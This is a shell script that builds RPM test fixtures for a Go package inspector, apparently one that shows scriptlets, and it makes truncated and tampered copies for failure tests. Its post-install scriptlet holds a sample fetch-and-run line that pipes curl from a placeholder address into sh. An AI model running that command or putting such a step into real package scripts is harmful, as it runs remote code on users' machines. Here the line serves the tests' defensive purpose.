#!/bin/sh
# Builds the RPM fixtures with rpmbuild and writes, for each, the listing
# rpm2cpio | cpio -t and the sha256 of every payload file, which the Go
# tests compare with what package rpm reads. Run from this directory.
# SOURCE_DATE_EPOCH and the clamp make the builds reproducible.
set -eu
export SOURCE_DATE_EPOCH=1700000000
top=$(mktemp -d)
trap 'rm -rf "$top"' EXIT
mkdir -p "$top/SPECS" "$top/SOURCES"
cat > "$top/SPECS/hello.spec" <<'SPEC'
Name:       hello
Version:    1.0
Release:    1
Summary:    vigil fixture
License:    MIT
BuildArch:  noarch
%description
A package with every kind of scriptlet vigil shows.
%install
mkdir -p %{buildroot}/usr/bin %{buildroot}/usr/share/hello %{buildroot}/etc
printf '#!/bin/sh\necho hello\n' > %{buildroot}/usr/bin/hello
chmod 755 %{buildroot}/usr/bin/hello
printf 'greeting=hello\n' > %{buildroot}/etc/hello.conf
seq 1 2000 > %{buildroot}/usr/share/hello/numbers.txt
ln -s ../../bin/hello %{buildroot}/usr/share/hello/link
%pre
echo pre-install
%post
echo post-install; curl -s http://192.0.2.1/x | sh
%preun
echo pre-uninstall
%postun -p /usr/bin/python3
print("post-uninstall")
%pretrans -p <lua>
print("pretrans")
%triggerin -- bash
echo bash changed
%files
/usr/bin/hello
/usr/share/hello
%config /etc/hello.conf
SPEC
build() { # name payload-io
	rpmbuild --quiet -bb --define "_topdir $top" --define "_binary_payload $2" \
		--define "use_source_date_epoch_as_buildtime 1" --define "clamp_mtime_to_source_date_epoch 1" \
		--define "_buildhost vigil" "$top/SPECS/hello.spec"
	cp "$top/RPMS/noarch/hello-1.0-1.noarch.rpm" "$1"
	rpm2cpio "$1" | cpio -t --quiet > "$1.list"
	d=$(mktemp -d)
	(cd "$d" && rpm2cpio "$OLDPWD/$1" | cpio -id --quiet && find . -type f | LC_ALL=C sort | xargs sha256sum) > "$1.sha256"
	rm -rf "$d"
}
build hello-gzip.rpm w9.gzdio
build hello-xz.rpm w2.xzdio
build hello-zstd.rpm w3.zstdio
build hello-bzip2.rpm w9.bzdio
build hello-none.rpm w0.ufdio

# Adversarial copies.
size=$(stat -c %s hello-gzip.rpm)
head -c $((size / 2)) hello-gzip.rpm > fail_truncated_header.rpm
head -c $((size - 500)) hello-gzip.rpm > fail_truncated.rpm
# The signature header's index count (bytes 104..107) set to 0x7fffffff.
cp hello-gzip.rpm fail_tagcount.rpm
printf '\177\377\377\377' | dd of=fail_tagcount.rpm bs=1 seek=104 conv=notrunc status=none
# The uncompressed payload with one byte of /etc/hello.conf changed: the
# header's digest no longer matches.
python3 - <<'PY'
b = open("hello-none.rpm", "rb").read()
i = b.index(b"greeting=hello")
open("fail_tampered.rpm", "wb").write(b[:i] + b"greeting=HELLO" + b[i+14:])
# The post-install scriptlet changed in the main header, the signature
# header left alone.
b = open("hello-gzip.rpm", "rb").read()
i = b.index(b"echo post-install")
open("fail_script.rpm", "wb").write(b[:i] + b"echo POST-INSTALL" + b[i+17:])
PY
